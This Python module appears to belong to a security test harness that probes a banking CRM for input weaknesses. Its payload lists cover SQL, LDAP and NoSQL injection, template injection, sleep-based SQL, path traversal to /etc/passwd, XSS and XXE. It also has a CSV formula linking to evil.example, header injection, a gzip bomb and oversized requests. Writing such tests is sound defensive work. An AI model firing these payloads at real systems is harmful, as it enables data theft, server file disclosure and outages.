"""Attacks by input: queries, paths, headers, XML, stored text and sheer size (OWASP API 4 and 8, ASVS 5.0 1)."""

import gzip
import re
from collections.abc import Iterator, Mapping
from datetime import date
from typing import Any

from scenarios.actors import Actor, Credential
from scenarios.crm import CRM
from scenarios.library.newcomers import on_file
from scenarios.library.security.shooting import Range, bent, said, verb
from scenarios.library.security.weaknesses import Shot
from scenarios.port import Refused, Request, Unsupported
from synthetic_data.records import Campaign, Customer

#: Texts that make an always-true question of one that they are pasted into (SQL, LDAP, JSON operators).
TRUE_FOR_ALL = (
    "zq' OR '1'='1", "zq') OR ('1'='1", "zq' OR 1=1 -- ", "zq%' OR '1%'='1", 'zq" OR "1"="1', "*)(uid=*))(|(uid=*",
    '{"$ne": null}', "zq' UNION SELECT NULL -- ", "zq\\' OR 1=1 -- ",
)  # fmt: skip
WILDCARDS = ("%", "_", "%%%", "*", ".*")
#: 3331 x 7919 = 26378189: a template that is carried out answers with the product.
PRODUCT = b"26378189"
TEMPLATES = ("{{3331*7919}}", "${3331*7919}", "#{3331*7919}", "<%= 3331*7919 %>", "{3331*7919}")
#: Seconds that a question is asked to sleep, and how much longer than without it counts.
NAP, LONGER = 2, 1.5
NAPS = ("zq'; SELECT pg_sleep({nap}) -- ", "zq' || pg_sleep({nap}) || '", "zq' AND SLEEP({nap}) AND '1'='1")
FILES = (
    "..%2f..%2f..%2f..%2f..%2f..%2fetc%2fpasswd", "..%252f..%252f..%252f..%252fetc%252fpasswd",
    "....%2f%2f....%2f%2f....%2f%2fetc%2fpasswd", "%2fetc%2fpasswd", "..%5c..%5c..%5c..%5cwindows%5cwin.ini",
    "%c0%ae%c0%ae%c0%af%c0%ae%c0%ae%c0%afetc%c0%afpasswd", "file:%2f%2f%2fetc%2fpasswd",
)  # fmt: skip
A_FILE = re.compile(rb"root:[^:\n]*:0:0:|\[(extensions|fonts)\]", re.IGNORECASE)
FORMULA, MARKUP = '=HYPERLINK("https://evil.example/?leak","see")', "<img src=x onerror=alert(1)>"
#: So many rows on one page are the whole bank to a small bank, and too many to any.
MOST_ROWS, LEAST_BANK = 1000, 250
MEGABYTE = 1 << 20


def _rows(answer: Any) -> int:
    """Return how many records an answer holds, 0 for a refusal."""
    if not answer.ok:
        return 0
    return len(answer.value.rows if hasattr(answer.value, "rows") else answer.value)


def by_queries(range_: Range) -> Iterator[Shot]:
    """Texts that would change a question are searched for and filtered by; a nonsense text is the control."""
    view = range_.as_(Actor.RM_A)
    nonsense = f"zqxjv{range_.crm.nonce}"
    if not range_.crm.offers("search"):
        raise Unsupported("the product offers no search to paste into")
    control = _searched(range_, view, nonsense)
    for text in (*TRUE_FOR_ALL, *WILDCARDS):
        shot = _searched(range_, view, text)
        weakness = "wildcard" if text in WILDCARDS else "injected_query"
        finds = range_.yes(shot) and not _names(range_, control) and _names(range_, shot)
        yield shot.found(weakness, finds, "finds people by a text that is in nobody's name")
    for text in TEMPLATES:
        shot = _searched(range_, view, text)
        yield shot.found("injected_query", PRODUCT in said(shot.reply), "the template was carried out")
    for text in NAPS:
        shot = _searched(range_, view, text.format(nap=NAP))
        yield shot.found("injected_query", _napped(range_, view, text, shot), f"sleeps for {NAP} s when it is told to")
    yield from _pasted_elsewhere(range_, view)


def _searched(range_: Range, view: CRM, text: str) -> Shot:
    return range_.fire(view, f"search {text}", range_.opening("search", Customer, text, limit=5))


def _names(range_: Range, shot: Shot) -> bool:
    """Whether any customer of the bank, or a newcomer, is in a reply."""
    some = (*range_.bank.customers[:2000], range_.own, range_.victim)
    return shot.ok and any(f'"{one.number}"'.encode() in shot.body for one in some)


def _napped(range_: Range, view: CRM, text: str, shot: Shot) -> bool:
    """Whether a question sleeps as long as it is told, twice, and not when it is told not to."""
    slow = shot.reply is not None and shot.reply.seconds >= LONGER
    if not slow:
        return False
    awake, again = (_searched(range_, view, text.format(nap=nap)).reply for nap in (0, NAP))
    return bool(awake and again and awake.seconds < LONGER <= again.seconds)


def _pasted_elsewhere(range_: Range, view: CRM) -> Iterator[Shot]:
    """Paste into filters, sort orders and numbers of records."""
    quote = "zq' OR '1'='1"
    asks = [verb("filter", "list", Customer, where={"tier": quote}, limit=5)]
    asks += [verb("lookup", "find", Customer, mobile=quote), verb("record", "get", Customer, "zq'%20OR%20'1'='1")]
    for what, request in range_.requests(asks):
        shot = range_.fire(view, f"{what} {quote}", request)
        yield shot.found("injected_query", range_.yes(shot) and _names(range_, shot), "finds people by a false value")
    for what, request in range_.requests([verb("list", "list", Customer, sort="number", limit=2)]):
        spoilt = {name: f"{value};SELECT pg_sleep({NAP})" for name, value in request.query.items() if value == "number"}
        shot = range_.fire(view, f"{what} with a sort order that sleeps", bent(request, query=spoilt))
        slow = shot.reply is not None and shot.reply.seconds >= LONGER
        yield shot.found("injected_query", slow and range_.yes(shot), "the sort order was carried out")


def by_paths(range_: Range) -> Iterator[Shot]:
    """Ways out of the folder are named where a record's number or a word belongs."""
    view, number = range_.as_(Actor.RM_A), range_.own.number
    asks = [verb("get", "get", Customer, number), verb("export", "export", Customer)]
    for what, request in range_.requests(asks):
        head = request.path.rpartition("/")[0]
        for way in FILES:
            shot = range_.fire(view, f"{what} {way}", bent(request, path=f"{head}/{way}"))
            yield shot.found("foreign_file", bool(A_FILE.search(shot.body)), "a file of the server")
    get = range_.opening("get", Customer, number)
    for name in ("file", "path", "template", "include", "lang"):
        shot = range_.fire(view, f"get with {name}", bent(get, query={name: "../../../../../../etc/passwd"}))
        yield shot.found("foreign_file", bool(A_FILE.search(shot.body)), "a file of the server")


def by_stored_text(range_: Range) -> Iterator[Shot]:
    """A formula and markup are stored as names, and read back by pages and exports that ask for HTML and tables."""
    core = range_.as_(Actor.INTEGRATION)
    mine = [
        Campaign(
            number=f"F{range_.crm.nonce}{place}", name=text, channel="email", product="fund", starts=date(2026, 5, 4),
            ends=date(2026, 6, 4),
        )
        for place, text in enumerate((FORMULA, MARKUP))
    ]  # fmt: skip
    for one in mine:
        try:
            with on_file(range_.crm, one):
                yield from _read_back(range_, core, one)
        except Refused:  # a product that takes no such text is safe from it
            request = range_.opening("create", one)
            yield Shot(what=f"store {one.name}", actor=core.actor.value, request=request, reply=None)


def _read_back(range_: Range, core: CRM, one: Campaign) -> Iterator[Shot]:
    asks = [verb("get", "get", Campaign, one.number), verb("export", "export", Campaign)]
    for what, request in range_.requests(asks):
        for wanted in ("text/csv", "text/html"):
            shot = range_.fire(core, f"{what} as {wanted}", bent(request, headers={"Accept": wanted}))
            given = shot.headers.get("content-type", "")
            cell = re.search(rb'(^|[\n,;\t])"?[=+@-]HYPERLINK', shot.body) is not None
            shot = shot.found("stored_formula", "csv" in given and cell, "a cell begins with =")
            yield shot.found("stored_script", "html" in given and MARKUP.encode() in shot.body, "markup in a page")


def by_xml(range_: Range) -> Iterator[Shot]:
    """A document whose entities spell a mark, and name a file, is sent where JSON belongs."""
    core, mark = range_.as_(Actor.INTEGRATION), f"stone-{range_.crm.nonce}"
    request = range_.opening("create", range_.own)
    for entity in (f'<!ENTITY a "touch"><!ENTITY b "&a;{mark}">', '<!ENTITY b SYSTEM "file:///etc/passwd">'):
        text = f'<?xml version="1.0"?><!DOCTYPE c [{entity}]><customer><number>&b;</number><name>&b;</name></customer>'
        for media in ("application/xml", "text/xml", "application/json"):
            one = bent(request, content=text.encode(), headers={"Content-Type": media})
            shot = range_.fire(core, f"XML as {media}", one)
            read = f"touch{mark}".encode() in shot.body or A_FILE.search(shot.body) is not None
            yield shot.found("expanded_entity", read, "the entity comes back expanded")


def by_lines(range_: Range) -> Iterator[Shot]:
    """An end of a line and a header are written into parameters, paths and headers."""
    view, nobody = range_.as_(Actor.RM_A), range_.as_(Actor.ANONYMOUS)
    line = "x%0d%0aX-Injected:%20yes"
    get = range_.opening("get", Customer, range_.own.number)
    for name in ("next", "lang", "callback", "trace"):
        asked = Request(method="GET", path=f"{get.path}?{name}={line}")
        for who in (view, nobody):
            yield _injected(range_.fire(who, f"parameter {name}", asked))
    yield _injected(range_.fire(view, "path", bent(get, path=f"{get.path}/{line}")))
    for name in ("X-Trace-Id", "X-Request-Id", "X-Correlation-Id", "Origin"):
        yield _injected(range_.fire(view, f"header {name}", bent(get, headers={name: line})))


def _injected(shot: Shot) -> Shot:
    return shot.found("injected_header", "x-injected" in shot.headers, "the answer has a header X-Injected")


def by_size(range_: Range) -> Iterator[Shot]:
    """The whole bank is asked for on one page; oversized and deep requests are sent, also by a stranger."""
    core, nobody = range_.as_(Actor.INTEGRATION), range_.as_(Actor.ANONYMOUS)
    for limit in (1_000_000, -1, 0):
        answer = core.list(Customer, limit=limit)
        reply = answer.replies[-1] if answer.replies else None
        shot = Shot(
            what=f"a page of {limit}", actor=core.actor.value, request=range_.opening("list", Customer, limit=limit),
            reply=reply, exchange=next(reversed(answer.exchanges), ""), session=range_.carried(core),
        )  # fmt: skip
        count = _rows(answer)
        greedy = count > MOST_ROWS or (len(range_.bank.customers) >= LEAST_BANK and count >= len(range_.bank.customers))
        yield _broken(shot.found("whole_bank", greedy, f"{count} records on one page"))
    long = range_.opening("sign_in", Credential(username="nobody-at-all", secret="A" * MEGABYTE))
    shot = range_.fire(nobody, "a secret of a megabyte", long)
    yield _broken(shot.found("long_work", shot.status == 401, "a secret of a megabyte was compared"))
    for what, asked in _oversized(range_).items():
        yield _broken(range_.fire(core, what, asked))


def _oversized(range_: Range) -> Mapping[str, Request]:
    create = range_.opening("create", range_.own)
    listed = range_.opening("list", Customer, limit=1)
    bomb = gzip.compress(b" " * (8 * MEGABYTE))
    deep = b'{"name":' + b"[" * 20_000 + b"]" * 20_000 + b"}"
    return {
        "arrays in arrays, 20,000 deep": bent(create, content=deep, headers={"Content-Type": "application/json"}),
        "eight megabytes packed into few": bent(
            create, content=bomb, headers={"Content-Type": "application/json", "Content-Encoding": "gzip"}
        ),
        "three hundred filters": bent(listed, query={f"filter{place}": "x" for place in range(300)}),
        "a value of 30,000 characters": bent(listed, query={"sort": "a" * 30_000}),
    }


def _broken(shot: Shot) -> Shot:
    return shot.found("greed_breaks", shot.status >= 500, f"status {shot.status}")
